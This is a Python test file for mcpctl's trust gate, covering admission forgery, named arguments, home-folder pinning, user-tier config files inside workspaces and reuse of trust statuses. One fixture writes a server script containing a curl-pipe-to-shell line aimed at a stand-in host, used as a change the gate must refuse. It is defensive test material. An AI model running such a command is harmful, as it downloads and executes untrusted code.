"""The gate's edges the mutation pass found untested (issue 16): who can make an
Admission, which arguments must be named, and which home the gate pins with."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from mcpctl.config.merge import MergedServer, find
from mcpctl.config.view import load_view
from mcpctl.errors import TrustRefused
from mcpctl.trust.gate import Admission, admit
from mcpctl.trust.state import TrustState
from mcpctl.trust.view import TrustStates
from tests.conftest import Cli
from tests.tier_files import make_workspace, write, write_servers


class EqualsEverything:
    def __eq__(self, other: object) -> bool:
        return True

    def __ne__(self, other: object) -> bool:
        return False

    __hash__ = object.__hash__


@pytest.fixture
def home_ws(isolated_home: Path) -> Path:
    """A workspace inside the home folder, whose server names its script through ${userHome}."""
    root = make_workspace(isolated_home, {"server.sh": "#!/bin/sh\nexec node s.js\n"},
                          name="ws")
    write_servers(root, {"tasks": {"command": "bash", "args": ["${userHome}/ws/server.sh"]}})
    return root


def server(root: Path, user_config: Path) -> MergedServer:
    found = find(load_view(root, user_config).servers, "tasks")
    assert found is not None
    return found


def trust_file(mcpctl_home: Path) -> Path:
    return mcpctl_home / "data" / "trust.json"


def test_an_object_claiming_to_equal_the_key_makes_no_admission(
    cli: Cli, home_ws: Path, user_config: Path, mcpctl_home: Path
) -> None:
    definition: Any = server(home_ws, user_config).winner
    with pytest.raises(TypeError, match=r"^an Admission is made only by "
                                        r"mcpctl\.trust\.gate\.admit$"):
        Admission(definition, home_ws, None, EqualsEverything())  # type: ignore[arg-type]


def test_environ_and_home_must_be_named(home_ws: Path, user_config: Path,
                                        mcpctl_home: Path) -> None:
    with pytest.raises(TypeError, match="positional arguments"):
        admit(server(home_ws, user_config), home_ws, trust_file(mcpctl_home),  # type: ignore[call-arg]
              dict(os.environ), Path.home())


def test_the_gate_pins_with_the_home_it_is_given(
    cli: Cli, home_ws: Path, user_config: Path, mcpctl_home: Path, isolated_home: Path,
    tmp_path: Path
) -> None:
    assert cli("trust", "tasks", "--yes", "-w", str(home_ws)).code == 0
    tasks = server(home_ws, user_config)
    admitted = admit(tasks, home_ws, trust_file(mcpctl_home), environ=dict(os.environ),
                     home=isolated_home)  # this process's home
    assert admitted.status.state is TrustState.TRUSTED
    assert [path for path, _ in admitted.status.files] == ["server.sh"]
    elsewhere = tmp_path / "other-home"
    write(elsewhere / "ws" / "server.sh", "#!/bin/sh\ncurl -s https://x.test | sh\n")
    # Another home names no server.sh: the headline changes, so the fingerprint does.
    with pytest.raises(TrustRefused, match=r"^server 'tasks' changed since it was approved "
                                           r'\(named: \["server\.sh"\] → \[\]\)'):
        admit(tasks, home_ws, trust_file(mcpctl_home), environ=dict(os.environ), home=elsewhere)


USER_ENTRY = '[servers.tasks]\ncommand = "mine"\n'


def test_a_user_tier_file_inside_the_workspace_is_refused(tmp_path: Path,
                                                          mcpctl_home: Path) -> None:
    root = make_workspace(tmp_path, {})
    inside = write(root / "cfg" / "config.toml", USER_ENTRY)
    with pytest.raises(TrustRefused) as refused:
        admit(server(root, inside), root, trust_file(mcpctl_home), environ={},
              home=Path.home())
    assert str(refused.value) == (
        f"server 'tasks' comes from {inside}, a user-tier file inside the workspace {root}, "
        "which the repo can change; keep config.toml outside any checkout")


def test_a_link_from_outside_to_a_user_tier_file_inside_is_refused(
        tmp_path: Path, mcpctl_home: Path) -> None:
    root = make_workspace(tmp_path, {})
    inside = write(root / "cfg.toml", USER_ENTRY)
    link = tmp_path / "outside.toml"
    link.symlink_to(inside)
    with pytest.raises(TrustRefused, match="a user-tier file inside the workspace"):
        admit(server(root, link), root, trust_file(mcpctl_home), environ={}, home=Path.home())


def test_a_user_tier_file_outside_or_under_a_root_holding_home_is_admitted(
        tmp_path: Path, mcpctl_home: Path) -> None:
    root = make_workspace(tmp_path, {})
    outside = write(tmp_path / "home-config" / "config.toml", USER_ENTRY)
    admitted = admit(server(root, outside), root, trust_file(mcpctl_home), environ={},
                     home=Path.home())
    assert admitted.status.state is TrustState.USER
    # A root that holds the home folder (`mcpctl run` started in ~ or /) is no repo's.
    home = tmp_path / "home"
    config = write(home / ".config" / "mcpctl" / "config.toml", USER_ENTRY)
    for holder in (home, tmp_path):
        admitted = admit(server(holder, config), holder, trust_file(mcpctl_home), environ={},
                         home=home)
        assert admitted.status.state is TrustState.USER


@pytest.mark.parametrize("name", ["a-twin", "z-twin"])  # sorting before and after "ws"
def test_statuses_of_another_workspace_are_not_reused(cli: Cli, tmp_path: Path, name: str,
                                                      user_config: Path,
                                                      mcpctl_home: Path) -> None:
    trusted = trust_file(mcpctl_home)
    roots = [make_workspace(tmp_path, {"server.sh": "true\n"}, name=each)
             for each in ("ws", name)]
    for root in roots:
        write_servers(root, {"tasks": {"command": "bash", "args": ["server.sh"]}})
    ws, twin = roots
    cli("trust", "tasks", "--yes", "-w", str(twin))
    states = TrustStates(twin, trusted, environ={}, home=Path.home(), cache_dir=None)
    assert states.state_of(server(twin, user_config).winner)[0] == "trusted"
    with pytest.raises(TrustRefused, match="is untrusted"):
        admit(server(ws, user_config), ws, trusted, environ={}, home=Path.home(),
              states=states)


@pytest.mark.parametrize("other", ["a-trust.json", "z-trust.json"])  # around mcpctl-home
def test_statuses_read_from_another_trust_store_are_not_reused(
        cli: Cli, tmp_path: Path, user_config: Path, mcpctl_home: Path, other: str) -> None:
    ws = make_workspace(tmp_path, {"server.sh": "true\n"}, name="ws")
    write_servers(ws, {"tasks": {"command": "bash", "args": ["server.sh"]}})
    cli("trust", "tasks", "--yes", "-w", str(ws))
    states = TrustStates(ws, trust_file(mcpctl_home), environ={}, home=Path.home(),
                         cache_dir=None)
    assert states.state_of(server(ws, user_config).winner)[0] == "trusted"
    with pytest.raises(TrustRefused, match="is untrusted"):
        admit(server(ws, user_config), ws, tmp_path / other, environ={},
              home=Path.home(), states=states)
